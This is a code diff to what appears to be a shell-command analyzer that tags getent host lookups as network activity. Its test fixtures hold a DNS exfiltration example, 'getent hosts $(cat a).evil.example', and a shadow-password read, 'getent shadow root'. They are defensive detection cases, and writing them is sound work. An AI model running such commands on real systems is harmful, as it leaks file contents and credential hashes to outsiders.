@@ -2,6 +2,7 @@ import { act, actOnFile, opaque } from '../effects/act.ts';
 import type { Call } from '../state/call.ts';
 import { has, valueOf, valuesOf } from '../state/call.ts';
 import { runWords } from '../calls/innerCommand.ts';
+import { tellsName } from './toldNames.ts';
 import type { Tool } from './tool.ts';
 
 /** Tools that look into one kind of file or at one part of the machine, and say what they see. */
@@ -169,6 +170,8 @@ export const inspection: readonly Tool[] = [
       const changes = CHANGES_MACHINE[call.title];
       if (changes !== undefined && call.args.some((arg) => changes.test(arg.value)))
         act(call, 'system.change', 'operation', call.title, call.range);
+      if (call.title === 'getent' && /^(?:a?hosts|networks)/.test(call.parsed.operands[0]?.value ?? ''))
+        for (const name of call.parsed.operands.slice(1)) tellsName(call, name);
       if (/^getent$/.test(call.title) && /^g?shadow$/.test(call.parsed.operands[0]?.value ?? ''))
         act(call, 'secret.read', 'secret', '/etc/shadow', call.range);
     },
@@ -176,6 +179,7 @@ export const inspection: readonly Tool[] = [
       held: {
         'rfkill block wifi': 'system.change',
         'getent shadow root': 'secret.read',
+        'getent hosts $(cat a).evil.example': 'file.read network.send',
         'nvidia-smi --gpu-reset': 'system.change',
         'iw dev wlan0 disconnect': 'system.change',
       },
